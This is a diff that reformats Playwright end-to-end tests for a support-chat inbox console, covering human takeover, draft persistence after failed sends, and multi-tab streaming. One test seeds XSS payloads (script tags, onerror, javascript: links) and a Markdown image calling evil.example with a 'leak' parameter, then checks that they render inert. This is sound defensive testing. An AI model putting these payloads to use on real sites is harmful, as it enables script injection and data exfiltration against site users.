@@ -31,7 +31,11 @@ t.test('a visitor asks for a person, somebody takes over in the inbox, answers a
   await page.getByLabel('Your answer').fill('I am **Ada** from the shop.')
   await page.keyboard.press('Enter')
   await widget.panel.locator('li').getByText('from the shop.').waitFor()
-  t.equal(await page.locator('.told.person strong').innerText(), 'Ada', 'what a person writes is drawn as the visitor sees it')
+  t.equal(
+    await page.locator('.told.person strong').innerText(),
+    'Ada',
+    'what a person writes is drawn as the visitor sees it'
+  )
   t.equal(await page.getByLabel('Your answer').inputValue(), '')
   await page.getByLabel('A note for the team').fill('Was friendly.')
   await page.getByRole('button', { name: 'Add the note' }).click()
@@ -46,67 +50,91 @@ t.test('a visitor asks for a person, somebody takes over in the inbox, answers a
   t.strictSame([...faults, ...visitorFaults], [])
 })
 
-t.test('what is typed survives a failed sending, a new message and another conversation, and arrives once', { skip }, async (t) => {
-  const built = await shop(t)
-  const { me, conversation, say, at, id } = built
-  await say(QUESTION)
-  const other = (await me.post(`/v1/agents/${id}/conversations`, { subject: 'The other one' })).json().data.id
-  const { page, faults } = await consoleAt(await signedIn(t, built, me.id), built, `/inbox/${conversation}`)
-  const field = page.getByLabel('Your answer')
-  await field.fill('My long answer')
-  await page.route('**/messages', (route) => route.request().method() === 'POST' ? route.abort() : route.continue())
-  await field.press('Enter')
-  await page.getByText('The server cannot be reached. Check the connection and try again.').waitFor()
-  t.equal(await field.inputValue(), 'My long answer')
-  await say('Are you there?')
-  await page.locator('.told.visitor').getByText('Are you there?').waitFor()
-  t.equal(await field.inputValue(), 'My long answer', 'a new message changes nothing')
-  await page.getByRole('link', { name: 'The other one' }).click()
-  await page.waitForURL(`**/#/inbox/${other}`)
-  t.equal(await field.inputValue(), '', 'each conversation has its own')
-  await page.getByRole('link', { name: QUESTION }).getByText('Draft').waitFor()
-  await page.reload()
-  await page.getByRole('link', { name: QUESTION }).click()
-  await page.locator('.told.visitor').first().waitFor()
-  t.equal(await field.inputValue(), 'My long answer', 'not even loading anew loses it')
-  await page.unroute('**/messages')
-  // The answer is lost on the way back: sent again, it is the same message.
-  await page.route('**/messages', async (route) => {
-    if (route.request().method() !== 'POST') return await route.continue()
-    await route.fetch()
-    await route.abort()
-  }, { times: 1 })
-  await field.press('Enter')
-  await page.getByRole('button', { name: 'Try again' }).click()
-  await page.locator('.inbox-reply textarea:placeholder-shown').waitFor()
-  const said = (await me.get(`${at}/messages`)).json().data.filter(({ role }: { role: string }) => role === 'person')
-  t.strictSame(said.map(({ text }: { text: string }) => text), ['My long answer'])
-  t.ok(faults.every((fault) => fault.includes('ERR_FAILED')), 'but for the requests that were made to fail nothing is complained of')
-})
+t.test(
+  'what is typed survives a failed sending, a new message and another conversation, and arrives once',
+  { skip },
+  async (t) => {
+    const built = await shop(t)
+    const { me, conversation, say, at, id } = built
+    await say(QUESTION)
+    const other = (await me.post(`/v1/agents/${id}/conversations`, { subject: 'The other one' })).json().data.id
+    const { page, faults } = await consoleAt(await signedIn(t, built, me.id), built, `/inbox/${conversation}`)
+    const field = page.getByLabel('Your answer')
+    await field.fill('My long answer')
+    await page.route('**/messages', (route) => (route.request().method() === 'POST' ? route.abort() : route.continue()))
+    await field.press('Enter')
+    await page.getByText('The server cannot be reached. Check the connection and try again.').waitFor()
+    t.equal(await field.inputValue(), 'My long answer')
+    await say('Are you there?')
+    await page.locator('.told.visitor').getByText('Are you there?').waitFor()
+    t.equal(await field.inputValue(), 'My long answer', 'a new message changes nothing')
+    await page.getByRole('link', { name: 'The other one' }).click()
+    await page.waitForURL(`**/#/inbox/${other}`)
+    t.equal(await field.inputValue(), '', 'each conversation has its own')
+    await page.getByRole('link', { name: QUESTION }).getByText('Draft').waitFor()
+    await page.reload()
+    await page.getByRole('link', { name: QUESTION }).click()
+    await page.locator('.told.visitor').first().waitFor()
+    t.equal(await field.inputValue(), 'My long answer', 'not even loading anew loses it')
+    await page.unroute('**/messages')
+    // The answer is lost on the way back: sent again, it is the same message.
+    await page.route(
+      '**/messages',
+      async (route) => {
+        if (route.request().method() !== 'POST') return await route.continue()
+        await route.fetch()
+        await route.abort()
+      },
+      { times: 1 }
+    )
+    await field.press('Enter')
+    await page.getByRole('button', { name: 'Try again' }).click()
+    await page.locator('.inbox-reply textarea:placeholder-shown').waitFor()
+    const said = (await me.get(`${at}/messages`)).json().data.filter(({ role }: { role: string }) => role === 'person')
+    t.strictSame(
+      said.map(({ text }: { text: string }) => text), ['My long answer']
+    )
+    t.ok(
+      faults.every((fault) => fault.includes('ERR_FAILED')),
+      'but for the requests that were made to fail nothing is complained of'
+    )
+  }
+)
 
-t.test('hostile names and hostile Markdown are shown as what they are, and nobody else is asked', { skip }, async (t) => {
-  const built = await shop(t)
-  const { me, id, host } = built
-  const evil = '<img src=x onerror=alert(1)>"\'><script>alert(2)</script>'
-  const visitor = (await me.post('/v1/visitors', { agent: id, name: evil, attributes: { [evil.slice(0, 60)]: evil } })).json().data.id
-  const conversation = (await me.post(`/v1/agents/${id}/conversations`, { visitor, subject: evil })).json().data.id
-  await me.post(`/v1/conversations/${conversation}/messages`, {
-    role: 'person', text: `${evil}\n\n![](https://evil.example/?leak=1) [click](javascript:alert(3)) <style>*{display:none}</style>`
-  })
-  await me.post(`/v1/conversations/${conversation}/notes`, { text: evil })
-  const context = await signedIn(t, built, me.id)
-  const { page, faults } = await consoleAt(context, built, '/inbox')
-  const asked = new Set<string>()
-  page.on('request', (request) => asked.add(new URL(request.url()).origin))
-  page.on('dialog', (dialog) => { t.fail(`a script ran: ${dialog.message()}`) })
-  await page.getByRole('link', { name: evil }).click()
-  await page.locator('.told.person').getByText('<script>alert(2)</script>').waitFor()
-  await page.locator('.note').getByText(evil).waitFor()
-  await page.locator('.known').getByText(evil).first().waitFor()
-  t.equal(await page.locator('main img, main script, main style, main a[href^="javascript"]').count(), 0)
-  t.strictSame([...asked].filter((origin) => origin !== host), [])
-  t.strictSame(faults, [])
-})
+t.test(
+  'hostile names and hostile Markdown are shown as what they are, and nobody else is asked',
+  { skip },
+  async (t) => {
+    const built = await shop(t)
+    const { me, id, host } = built
+    const evil = '<img src=x onerror=alert(1)>"\'><script>alert(2)</script>'
+    const visitor = (
+      await me.post('/v1/visitors', { agent: id, name: evil, attributes: { [evil.slice(0, 60)]: evil } })
+    ).json().data.id
+    const conversation = (await me.post(`/v1/agents/${id}/conversations`, { visitor, subject: evil })).json().data.id
+    await me.post(`/v1/conversations/${conversation}/messages`, {
+      role: 'person',
+      text: `${evil}\n\n![](https://evil.example/?leak=1) [click](javascript:alert(3)) <style>*{display:none}</style>`
+    })
+    await me.post(`/v1/conversations/${conversation}/notes`, { text: evil })
+    const context = await signedIn(t, built, me.id)
+    const { page, faults } = await consoleAt(context, built, '/inbox')
+    const asked = new Set<string>()
+    page.on('request', (request) => asked.add(new URL(request.url()).origin))
+    page.on('dialog', (dialog) => {
+      t.fail(`a script ran: ${dialog.message()}`)
+    })
+    await page.getByRole('link', { name: evil }).click()
+    await page.locator('.told.person').getByText('<script>alert(2)</script>').waitFor()
+    await page.locator('.note').getByText(evil).waitFor()
+    await page.locator('.known').getByText(evil).first().waitFor()
+    t.equal(await page.locator('main img, main script, main style, main a[href^="javascript"]').count(), 0)
+    t.strictSame(
+      [...asked].filter((origin) => origin !== host), []
+    )
+    t.strictSame(faults, [])
+  }
+)
 
 t.test('seven tabs are open, all are live, and one of them alone keeps a stream open', { skip }, async (t) => {
   const built = await shop(t)
@@ -120,7 +148,9 @@ t.test('seven tabs are open, all are live, and one of them alone keeps a stream 
   await say(QUESTION)
   for (const { page } of tabs) await page.getByRole('link', { name: QUESTION }).waitFor()
   t.equal(streams.length, 1)
-  await Promise.all([context.waitForEvent('request', (request) => request.url().endsWith('/v1/events')), tabs[0]!.page.close()])
+  await Promise.all([
+    context.waitForEvent('request', (request) => request.url().endsWith('/v1/events')), tabs[0]!.page.close()
+  ])
   await me.post(`${at}/close`)
   for (const { page } of tabs.slice(1)) await page.getByRole('link', { name: QUESTION }).waitFor({ state: 'detached' })
   t.strictSame(tabs.flatMap(({ faults }) => faults), [])
